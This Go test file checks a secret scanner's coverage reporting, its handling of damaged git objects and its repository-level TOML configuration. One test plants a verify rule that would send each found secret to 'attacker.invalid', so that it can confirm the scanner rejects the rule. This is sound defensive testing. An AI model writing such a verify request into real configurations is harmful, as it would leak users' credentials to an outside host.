package scanner

import (
	"bytes"
	"path/filepath"
	"strings"
	"testing"

	"mudlark/report"
)

// accepting is a configuration that accepts that something stays unread.
func accepting(object string) string {
	return "[[coverage.accept]]\nobject = \"" + object + "\"\nreason = \"known since the disk crash\"\n"
}

// onlySkipped returns the only entry of the coverage.
func onlySkipped(t testing.TB, got *collected) report.Skipped {
	t.Helper()
	if len(got.coverage.Skipped) != 1 {
		t.Fatalf("skipped %+v, want one entry", got.coverage.Skipped)
	}
	return got.coverage.Skipped[0]
}

func TestCoverageClasses(t *testing.T) {
	t.Parallel()
	pointer := "version https://git-lfs.github.com/spec/v1\noid sha256:" + strings.Repeat("ab", 32) + "\nsize 5\n"
	for _, tt := range []struct {
		name, class string
		make        func(r *sandbox) (object string)
	}{
		{"missing blob", "missing", func(r *sandbox) string {
			r.put("x", "x\n")
			id := r.rev("HEAD:x")
			r.damage(id, nil)
			return id
		}},
		{"damaged blob", "damaged", func(r *sandbox) string {
			r.put("x", doc(1, 100))
			id := r.rev("HEAD:x")
			r.damage(id, half)
			return id
		}},
		{"blob above the limit", "limit", func(r *sandbox) string {
			r.put("x", strings.Repeat("x", 5000))
			r.opt.MaxBlob = 4096
			return r.rev("HEAD:x")
		}},
		{"LFS pointer", "policy", func(r *sandbox) string {
			r.put("x", pointer)
			return r.rev("HEAD:x")
		}},
		{"missing tree", "missing", func(r *sandbox) string {
			r.put("d/x", "x\n")
			id := r.rev("HEAD:d")
			r.damage(id, nil)
			return id
		}},
		{"encoded too deeply", "limit", func(r *sandbox) string {
			r.put("x", b64(b64("a: "+token(9)))+"\n")
			r.opt.MaxDecodeDepth = 1
			return r.rev("HEAD:x")
		}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r := newSandbox(t)
			c := r.put("a.env", key(1))
			object := tt.make(r)
			r.opt.Target = r.path
			got := scanned(t, r.opt)
			if len(got.findings) != 1 || *got.findings[0].Commit != c {
				t.Errorf("the secret beside it is not found: %+v", got.findings)
			}
			s := onlySkipped(t, got)
			if s.Class != tt.class || s.What != object || s.Why == "" || got.coverage.Complete {
				t.Errorf("got %+v, complete %v; want class %s of %s", s, got.coverage.Complete, tt.class, object)
			}
			r.write(".mudlark.toml", accepting(object))
			got = scanned(t, r.opt)
			s = onlySkipped(t, got)
			if s.Accepted != "known since the disk crash" || !got.coverage.Complete {
				t.Errorf("accepted: got %+v, complete %v", s, got.coverage.Complete)
			}
			r.write(".mudlark.toml", accepting(strings.Repeat("12", 20)))
			if got = scanned(t, r.opt); got.coverage.Complete {
				t.Error("complete, though something else was accepted")
			}
		})
	}
}

// The same broken object must be listed once, however many commits and paths lead to it.
func TestCoverageListsAnObjectOnce(t *testing.T) {
	t.Parallel()
	r := newSandbox(t)
	r.put("a/x", "same\n")
	r.put("b/x", "same\n")
	r.put("a/x", "other\n")
	r.put("c", "same\n")
	r.put("d", "d\n")
	r.git("update-ref", "refs/tags/same", r.rev("main:b"))
	r.damage(r.rev("main:c"), nil)
	got := scanned(t, Options{Target: r.path})
	onlySkipped(t, got)
}

func TestCoverageCounts(t *testing.T) {
	t.Parallel()
	r := newSandbox(t)
	r.put("a", "12345")
	r.put("d/b", "1234567")
	r.put("d/c", "12345") // the same blob as a
	r.git("update-ref", "refs/tags/v1", r.tip())
	got := scanned(t, Options{Target: r.path}).coverage
	// Trees: three roots and two of d. Refs: HEAD, main, v1.
	if got.Commits != 3 || got.Blobs != 2 || got.Bytes != 12 || got.Trees != 5 || got.Refs != 3 {
		t.Errorf("coverage %+v", got)
	}
	r.git("repack", "-adfq")
	packed := scanned(t, Options{Target: r.path}).coverage
	if packed.Commits != 3 || packed.Blobs != 2 || packed.Bytes != 12 || packed.Trees != 5 {
		t.Errorf("coverage of the packed repository %+v", packed)
	}
}

// What a range's diffs name must be there, on both sides; what it does not name is none of its business.
func TestCoverageOfARange(t *testing.T) {
	t.Parallel()
	build := func(t *testing.T) (*sandbox, string) {
		r := newSandbox(t)
		r.commit(text("old", "old\n"), text("x", "x\n"), text("other", "o\n"))
		base := r.put("x", "y\n")
		r.put("x", "z\n")
		r.opt = Options{Target: r.path, Since: []string{base}}
		return r, base
	}
	t.Run("new side", func(t *testing.T) {
		t.Parallel()
		r, _ := build(t)
		r.damage(r.rev("HEAD:x"), nil)
		checkSkipped(t, scanned(t, r.opt).coverage, "missing")
	})
	t.Run("old side", func(t *testing.T) {
		t.Parallel()
		r, base := build(t)
		r.damage(r.rev(base+":x"), nil)
		checkSkipped(t, scanned(t, r.opt).coverage, "missing")
	})
	t.Run("before the range", func(t *testing.T) {
		t.Parallel()
		r, base := build(t)
		r.damage(r.rev(base+"~1:x"), nil)
		checkSkipped(t, scanned(t, r.opt).coverage)
	})
	t.Run("untouched by the range", func(t *testing.T) {
		t.Parallel()
		r, _ := build(t)
		r.damage(r.rev("HEAD:other"), nil)
		checkSkipped(t, scanned(t, r.opt).coverage)
	})
}

func TestBrokenRepositoryConfiguration(t *testing.T) {
	t.Parallel()
	for name, content := range map[string]string{
		"no TOML":                   "this is = = not",
		"unknown key":               "surprise = 1\n",
		"rule without a format":     "[[rule]]\nid = \"x-y\"\n",
		"rule id of another rule":   testRuleText[strings.Index(testRuleText, "[[rule]]"):],
		"short key":                 "fingerprint_key = \"abcd\"\n",
		"no reason":                 "[[coverage.accept]]\nobject = \"x\"\n",
		"verify block outside rule": "[verify]\nallow = true\n",
		"nested too deeply":         strings.Repeat("[", 100000),
		"not UTF-8":                 "# \xff\xfe\n",
		"larger than the limit":     "#" + strings.Repeat("x", 2<<20),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newSandbox(t)
			r.put("a.env", key(1))
			r.write(".mudlark.toml", content)
			got := scanned(t, Options{Target: r.path})
			if len(got.findings) != 1 {
				t.Errorf("%d findings, want what the given rules find", len(got.findings))
			}
			s := onlySkipped(t, got)
			if s.Class != "policy" && s.Class != "limit" || !strings.Contains(s.What, ".mudlark.toml") || got.coverage.Complete {
				t.Errorf("skipped %+v, complete %v", s, got.coverage.Complete)
			}
		})
	}
}

// A broken configuration cannot accept itself, nor anything else.
func TestBrokenConfigurationAcceptsNothing(t *testing.T) {
	t.Parallel()
	r := newSandbox(t)
	r.put("a.env", key(1))
	r.write(".mudlark.toml", accepting(".mudlark.toml")+"surprise = 1\n")
	if got := scanned(t, Options{Target: r.path}); got.coverage.Complete {
		t.Errorf("complete: %+v", got.coverage.Skipped)
	}
}

const extraRule = `
[[rule]]
id = "extra-token"
name = "Extra token"
provider = "Extra"
format = "extratok_{base62:20}"
severity = "low"
confidence = "high"
source = "https://example.org/"
rotate = "https://example.org/"
`

func TestRepositoryConfigurationAddsRules(t *testing.T) {
	t.Parallel()
	other := "extratok" + "_" + token(1)[7:]
	build := func(t *testing.T) *sandbox {
		r := newSandbox(t)
		r.put(".mudlark.toml", extraRule)
		r.put("b.env", "x = "+other+"\n")
		return r
	}
	t.Run("from the working tree", func(t *testing.T) {
		t.Parallel()
		r := build(t)
		r.checkout()
		if got := scanned(t, Options{Target: r.path}); len(got.findings) != 1 || got.findings[0].Rule != "extra-token" || got.config.Rules != 2 {
			t.Errorf("findings %+v", got.findings)
		}
	})
	t.Run("the working tree's file counts, not HEAD's", func(t *testing.T) {
		t.Parallel()
		r := build(t)
		if got := scanned(t, Options{Target: r.path}); len(got.findings) != 0 {
			t.Errorf("findings %+v", got.findings)
		}
	})
	t.Run("from HEAD of a bare repository", func(t *testing.T) {
		t.Parallel()
		r := build(t)
		bare := filepath.Join(t.TempDir(), "bare")
		r.git("clone", "-q", "--bare", ".", bare)
		if got := scanned(t, Options{Target: bare}); len(got.findings) != 1 || got.findings[0].Rule != "extra-token" {
			t.Errorf("findings %+v", got.findings)
		}
	})
	t.Run("from a folder", func(t *testing.T) {
		t.Parallel()
		dir := folder{".mudlark.toml": extraRule, "b": other}.write(t)
		if got := scanned(t, Options{Mode: ModeDir, Paths: []string{dir}}); len(got.findings) != 1 {
			t.Errorf("findings %+v", got.findings)
		}
	})
}

// What comes with the scanned repository may not say where secrets are sent.
func TestRepositoryConfigurationMayNotVerify(t *testing.T) {
	t.Parallel()
	r := newSandbox(t)
	r.put("a.env", key(1))
	r.write(".mudlark.toml", extraRule+"[rule.verify]\nrequest = \"GET https://attacker.invalid/{secret}\"\nevidence = \"https://attacker.invalid/\"\nactive = { status = [200], json = \"id\" }\n")
	got, res, err := tryScan(t, Options{Target: r.path})
	if err != nil {
		t.Fatal(err)
	}
	checkSkipped(t, got.coverage)
	if len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0], "extra-token") {
		t.Errorf("warnings %q", res.Warnings)
	}
}

func TestFingerprintKeyOfTheRepository(t *testing.T) {
	t.Parallel()
	r := newSandbox(t)
	r.put("a.env", key(1))
	fingerprint := func(o Options) string {
		t.Helper()
		o.Target = r.path
		got := scanned(t, o)
		if len(got.findings) != 1 {
			t.Fatalf("%d findings", len(got.findings))
		}
		return got.findings[0].Fingerprint
	}
	plain := fingerprint(Options{})
	r.write(".mudlark.toml", "fingerprint_key = \""+strings.Repeat("07", 32)+"\"\n")
	own := fingerprint(Options{})
	if own == plain {
		t.Error("the key of the repository has no effect")
	}
	trusted := &Config{FingerprintKey: bytes.Repeat([]byte{8}, 32)}
	if got := fingerprint(Options{Config: trusted}); got == own || got == plain {
		t.Error("the key of the trusted configuration has no effect")
	}
}

const pathRule = `
[[rule]]
id = "path-token"
name = "Path token"
provider = "Test"
format = "mudtok_{base62:20}"
paths = ["*.env", "config/**"]
severity = "high"
confidence = "high"
source = "https://example.org/"
rotate = "https://example.org/"
`

func TestRulesWithPaths(t *testing.T) {
	t.Parallel()
	set := rulesOf(t, pathRule)
	with := func(name string, make func(r *sandbox)) scenario {
		return scenario{name, func(r *sandbox) { r.opt.Rules = set; make(r) }}
	}
	runScenarios(t, []scenario{
		with("only where the paths match", func(r *sandbox) {
			c := r.commit(text("a.env", key(1)), text("b.txt", key(2)), text("config/x/y", key(3)))
			r.expect(token(1), c, "a.env", 1, here)
			r.expect(token(3), c, "config/x/y", 1, here)
		}),
		with("one blob at two paths", func(r *sandbox) {
			c := r.commit(text("a.env", key(1)), text("b.txt", key(1)))
			r.expect(token(1), c, "a.env", 1, here).places = 1
		}),
		with("renamed to where it counts", func(r *sandbox) {
			r.put("b.txt", key(1))
			c := r.commit(remove("b.txt"), text("a.env", key(1)))
			r.expect(token(1), c, "a.env", 1, here)
		}),
		with("renamed to where it does not count", func(r *sandbox) {
			c := r.put("a.env", key(1))
			d := r.commit(remove("a.env"), text("b.txt", key(1)))
			r.expect(token(1), c, "a.env", 1, gone).removed = d
		}),
		with("in a range", func(r *sandbox) {
			b := r.put("b.txt", key(1))
			c := r.commit(text("c.txt", key(2)), text("a.env", key(3)))
			r.opt.Since = []string{b}
			r.expect(token(3), c, "a.env", 1, here)
		}),
		with("staged", func(r *sandbox) {
			r.base()
			r.checkout()
			r.stage("b.txt", key(9))
			r.stage("a.env", key(1))
			r.newInIndex(token(1), "a.env", 1)
		}),
		with("not in messages", func(r *sandbox) {
			r.commit(text("x", "x\n"), message("adds "+token(9)))
		}),
		with("tree and blob refs", func(r *sandbox) {
			r.base()
			r.git("update-ref", "refs/tags/t", r.tree("100644 a.env", r.blob(key(1)), "100644 b.txt", r.blob(key(9))))
			r.expect(token(1), "", "a.env", 1, gone)
		}),
	})
	t.Run("folder", func(t *testing.T) {
		t.Parallel()
		dir := folder{"a.env": key(1), "b.txt": key(9)}.write(t)
		got := scanned(t, Options{Mode: ModeDir, Paths: []string{dir}, Rules: set})
		if len(got.findings) != 1 || got.findings[0].Secret != token(1) {
			t.Errorf("findings %+v", got.findings)
		}
	})
}

func TestHeadThatCannotBeRead(t *testing.T) {
	r := newSandbox(t)
	r.put("d/a.env", key(1))
	r.put("b.env", key(2))
	tree := r.git("rev-parse", "HEAD:d")
	r.put("c.txt", "on\n")
	r.damage(tree, nil)
	got := scanned(t, Options{Target: r.path})
	for _, f := range got.findings {
		switch {
		case f.Secret == token(2) && (f.AtHead == nil || !*f.AtHead):
			t.Errorf("the secret beside the lost folder: at_head %v", f.AtHead)
		case f.Secret == token(1) && (f.AtHead != nil || f.Removed != nil):
			t.Errorf("the secret in the lost folder: at_head %v, removed %v", *f.AtHead, f.Removed)
		}
	}
	if got.coverage.Complete {
		t.Error("complete")
	}
}
